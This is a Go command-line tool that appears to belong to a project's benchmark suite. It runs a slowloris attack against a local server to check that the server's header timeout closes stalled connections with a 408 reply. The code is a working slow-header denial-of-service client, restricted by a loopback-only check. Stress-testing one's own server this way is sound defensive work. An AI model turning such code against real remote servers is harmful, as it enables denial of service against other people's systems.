// Command slowloris is the attacker of the out-of-process slowloris
// measurement: it opens --conns connections to a server (from --sources
// loopback addresses in turn), sends the start of a request on each and then
// one more header byte every --every, never finishing the header section,
// until the server closes the connection or --duration passes. It prints
// how many connections it opened, how many the server closed and how many
// of those closes came with a 408 reply, then exits.
//
//	slowloris --addr 127.0.0.1:8000 --conns 5000 --every 500ms --duration 20s
//
// Run it on another core than the server (taskset) next to a normal load
// generator to see what the attack costs normal traffic; with a header
// timeout below --duration every connection must end closed by the server.
package main

import (
	"bytes"
	"context"
	"flag"
	"fmt"
	"io"
	"os"
	"strconv"
	"sync"
	"sync/atomic"
	"time"

	"github.com/pricing-engine/pricing-engine/bench/internal/loopclient"
)

func main() {
	addr := flag.String("addr", "127.0.0.1:8000", "server address (loopback only)")
	conns := flag.Int("conns", 1000, "connections to open")
	every := flag.Duration("every", 500*time.Millisecond, "time between header bytes on a connection")
	rate := flag.Int("rate", 5000, "new connections per second while opening")
	duration := flag.Duration("duration", 20*time.Second, "give up after this long")
	sources := flag.Int("sources", 1, "loopback source addresses to spread connections over")
	flag.Parse()
	if err := loopclient.CheckLoopback(*addr); err != nil {
		fmt.Fprintf(os.Stderr, "slowloris: %v\n", err)
		os.Exit(2)
	}
	ctx, cancel := context.WithTimeout(context.Background(), *duration)
	defer cancel()

	var opened, closedByServer, got408 atomic.Int64
	var wg sync.WaitGroup
	tick := time.NewTicker(time.Second / time.Duration(max(*rate, 1)))
	defer tick.Stop()
	for i := 0; i < *conns && ctx.Err() == nil; i++ {
		<-tick.C
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			d := loopclient.Dialer(loopclient.Source(i, *sources), 5*time.Second)
			c, err := d.DialContext(ctx, "tcp", *addr)
			if err != nil {
				return
			}
			defer c.Close()
			opened.Add(1)
			if _, err := io.WriteString(c, "GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow-"+strconv.Itoa(i)+": "); err != nil {
				closedByServer.Add(1)
				return
			}
			// The reader sees the server's reply (a 408) or EOF.
			done := make(chan []byte, 1)
			go func() {
				b, _ := io.ReadAll(io.LimitReader(c, 4096))
				done <- b
			}()
			t := time.NewTicker(*every)
			defer t.Stop()
			for {
				select {
				case b := <-done:
					closedByServer.Add(1)
					if bytes.HasPrefix(b, []byte("HTTP/1.1 408")) {
						got408.Add(1)
					}
					return
				case <-ctx.Done():
					_ = c.Close()
					<-done
					return
				case <-t.C:
					if _, err := c.Write([]byte("a")); err != nil {
						_ = c.Close()
						b := <-done
						closedByServer.Add(1)
						if bytes.HasPrefix(b, []byte("HTTP/1.1 408")) {
							got408.Add(1)
						}
						return
					}
				}
			}
		}(i)
	}
	wg.Wait()
	fmt.Printf("opened %d closed_by_server %d with_408 %d\n", opened.Load(), closedByServer.Load(), got408.Load())
	if closedByServer.Load() != opened.Load() {
		os.Exit(1)
	}
}
